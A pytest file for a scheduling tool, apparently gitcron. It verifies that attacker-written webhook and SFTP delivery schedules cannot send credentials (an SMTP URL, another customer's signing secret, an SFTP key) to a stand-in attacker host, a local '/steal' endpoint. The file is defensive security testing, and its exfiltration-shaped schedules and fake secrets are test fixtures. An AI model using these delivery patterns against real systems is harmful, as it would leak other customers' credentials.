"""A merged schedule reaches only what engineers granted it: each exfiltration, as an attacker.

The attacker writes a schedule (account managers do, and a reviewer cannot see what a variable
holds) that names one of the tick's secrets on a delivery to the attacker's own server: a webhook
token or signing secret, an sftp password or key. Each attempt must be rejected by `validate`,
and, forced past it (the target model built directly, or the tick run on its own), refused at
send time before anything connects: the attacker's real loopback server records what it was
offered, and it is offered nothing. No error shows a value. The repositories here grant nothing,
as on main before grants existed, so these tests use only what main had.
"""

from __future__ import annotations

import base64
import dataclasses
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from channels.webserver import Receiver, serve
from gitcron.channels import registry
from gitcron.channels.base import DeliveryContext, DeliveryError
from gitcron.channels.sftp.channel import SftpChannel
from gitcron.channels.sftp.target import SftpTarget
from gitcron.channels.webhook.channel import WebhookChannel
from gitcron.channels.webhook.target import WebhookTarget
from gitcron.config.settings import Settings
from gitcron.core.artifact import Artifact
from gitcron.core.run import RunInfo
from gitcron.schedule import Delivery
from support import invoke

SMTP_PASSWORD = "smtp-Pa55-w0rd-exfil-7q"
SMTP_URL = f"smtp://reports:{SMTP_PASSWORD}@mail.ourco.example:587"
HOOK_KEY = b"customer-004-signing-key-0123456789"
HOOK_SECRET = "whsec_" + base64.b64encode(HOOK_KEY).decode()
SFTP_KEY = (
    Ed25519PrivateKey.generate()
    .private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption())
    .decode()
)
# The tick step's environment: gitcron's mail login, another customer's webhook secret and
# another customer's SFTP key.
ENV = {
    "GITCRON_SMTP_URL": SMTP_URL,
    "CUSTOMER_004_WEBHOOK_SECRET": HOOK_SECRET,
    "ACME_SFTP_KEY": SFTP_KEY,
}
VALUES = (SMTP_URL, SMTP_PASSWORD, HOOK_SECRET, base64.b64encode(HOOK_KEY).decode(), SFTP_KEY)
# The engineers' gitcron.yaml: 127.0.0.1 stands for the attacker's public host.
SETTINGS = {
    "datasets": {"products": {"sample": "products", "params": ["customer"]}},
    "channels": {"email": {"from": "reports@ourco.example"}, "retry": {"attempts": 2}},
    "network": {"allow": ["127.0.0.1"]},
}
SETTINGS_YAML = """\
datasets:
  products: { sample: products, params: [customer] }
channels:
  email: { from: reports@ourco.example }
network: { allow: ["127.0.0.1"] }
"""
FIRE = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)

WEBHOOK_ATTACKS = [
    pytest.param("token_env", "GITCRON_SMTP_URL", id="token_env-smtp-url"),
    pytest.param("secret_env", "GITCRON_SMTP_URL", id="secret_env-smtp-url"),
    pytest.param("secret_env", "CUSTOMER_004_WEBHOOK_SECRET", id="secret_env-another-customers"),
]
SFTP_ATTACKS = [
    pytest.param("password_env", "GITCRON_SMTP_URL", id="password_env-smtp-url"),
    pytest.param("key_env", "GITCRON_SMTP_URL", id="key_env-smtp-url"),
    pytest.param("key_env", "ACME_SFTP_KEY", id="key_env-another-customers"),
]


def context(root: Path) -> DeliveryContext:
    run = RunInfo(
        "acme/exfil@2026-11-23T09:00:00Z", "acme/exfil", FIRE, None, "scheduled", 1, ZoneInfo("UTC")
    )
    artifact = Artifact("event.json", "application/json", body=b'{"type":"report.daily"}')
    settings = Settings.model_validate(SETTINGS)
    return DeliveryContext(run, settings, artifact, root, None, ENV, template_values=dict)


def validate(root: Path, schedule: str) -> tuple[int, str]:
    (root / "schedules/acme").mkdir(parents=True, exist_ok=True)
    (root / "gitcron.yaml").write_text(SETTINGS_YAML, encoding="utf-8")
    (root / "schedules/acme/exfil.yaml").write_text(schedule, encoding="utf-8")
    done = invoke(["--repo", str(root), "validate"])
    return done.code, done.out + done.err


def assert_no_value(text: str) -> None:
    for value in VALUES:
        assert value not in text


# --- webhooks ------------------------------------------------------------------------------------


def webhook_schedule(port: int, key: str, variable: str) -> str:
    return (
        'schedule: { daily: { at: "09:00" } }\n'
        "event: { type: report.daily }\n"
        "deliver:\n"
        "  - webhook:\n"
        f"      url: http://127.0.0.1:{port}/steal\n"
        f"      {key}: {variable}\n"
    )


@pytest.mark.parametrize(("key", "variable"), WEBHOOK_ATTACKS)
def test_validate_rejects_a_webhook_naming_a_tick_secret(
    tmp_path: Path, key: str, variable: str
) -> None:
    code, out = validate(tmp_path, webhook_schedule(8080, key, variable))
    assert code == 1
    assert f"schedules/acme/exfil.yaml:6:{9 + len(key)}: error: delivery 1, webhook.{key}:" in out
    assert variable in out
    assert_no_value(out)


@pytest.mark.parametrize(("key", "variable"), WEBHOOK_ATTACKS)
def test_a_webhook_naming_a_tick_secret_sends_nothing(
    tmp_path: Path, key: str, variable: str
) -> None:
    receiver = Receiver(secret=HOOK_SECRET)
    ctx = context(tmp_path)
    with serve(receiver) as port:
        target = WebhookTarget.model_validate(
            {"url": f"http://127.0.0.1:{port}/steal", key: variable}
        )
        with pytest.raises(DeliveryError) as caught:
            WebhookChannel().deliver(target, ctx)
        with pytest.raises(DeliveryError) as again:  # and through the registry's retries
            registry.deliver(
                Delivery(webhook=target), dataclasses.replace(ctx, sleep=lambda _: None)
            )
    assert receiver.received == []  # not a request, so not a header, a token or a signature
    for error in (caught.value, again.value):
        assert error.permanent
        assert variable in error.message
        assert_no_value(f"{error} {error.hint}")


def test_a_tick_never_posts_a_tick_secret(tmp_path: Path) -> None:
    """The tick itself, with the schedule merged: the receiver hears nothing."""
    from gitcron.engine.tick import TickOptions, run_tick

    receiver = Receiver()
    with serve(receiver) as port:
        validate(tmp_path, webhook_schedule(port, "token_env", "GITCRON_SMTP_URL"))
        options = TickOptions(env=ENV, sleep=lambda _: None)
        run_tick(tmp_path, datetime(2026, 11, 23, 8, 52, tzinfo=UTC), options)
        result = run_tick(tmp_path, datetime(2026, 11, 23, 9, 7, tzinfo=UTC), options)
    assert receiver.received == []
    assert not [r for r in result.records if r.status == "succeeded"]
    assert_no_value(repr(result))


# --- sftp ----------------------------------------------------------------------------------------


@pytest.fixture
def attacker(tmp_path: Path) -> Iterator[Any]:
    """The attacker's own SFTP server, recording every connection and password or key offered."""
    pytest.importorskip("asyncssh")
    pytest.importorskip("paramiko")
    from channels.sftpserver import serve as sftp_serve

    folder = tmp_path / "attacker"
    (folder / "in").mkdir(parents=True)
    with sftp_serve(folder) as server:
        yield server


def sftp_schedule(server: Any, key: str, variable: str) -> str:
    return (
        'schedule: { daily: { at: "09:00" } }\n'
        "report: { dataset: products, params: { customer: acme }, format: csv }\n"
        "deliver:\n"
        "  - sftp:\n"
        f"      url: {server.url('/in')}\n"
        f"      {key}: {variable}\n"
        f'      known_hosts: "{server.known_hosts}"\n'
    )


@pytest.mark.parametrize(("key", "variable"), SFTP_ATTACKS)
def test_validate_rejects_an_sftp_login_naming_a_tick_secret(
    tmp_path: Path, attacker: Any, key: str, variable: str
) -> None:
    code, out = validate(tmp_path / "repo", sftp_schedule(attacker, key, variable))
    assert code == 1
    assert f"schedules/acme/exfil.yaml:6:{9 + len(key)}: error: delivery 1, sftp.{key}:" in out
    assert variable in out
    assert_no_value(out)


@pytest.mark.parametrize(("key", "variable"), SFTP_ATTACKS)
def test_an_sftp_login_naming_a_tick_secret_offers_nothing(
    tmp_path: Path, attacker: Any, key: str, variable: str
) -> None:
    spec = {"url": attacker.url("/in"), key: variable, "known_hosts": attacker.known_hosts}
    target = SftpTarget.model_validate(spec)
    artifact = Artifact("products.csv", "text/csv", body=b"sku\r\nA1\r\n")
    ctx = dataclasses.replace(context(tmp_path), artifact=artifact)
    with pytest.raises(DeliveryError) as caught:
        SftpChannel().deliver(target, ctx)
    assert attacker.connections == 0  # refused before connecting: no password, no key offered
    assert attacker.offered == []
    assert list((attacker.root / "in").iterdir()) == []
    assert caught.value.permanent
    assert variable in caught.value.message
    why = "a schedule can never send it" if variable == "GITCRON_SMTP_URL" else "is not granted"
    assert why in caught.value.message  # refused for what it is, before it is even read
    assert_no_value(f"{caught.value} {caught.value.hint}")
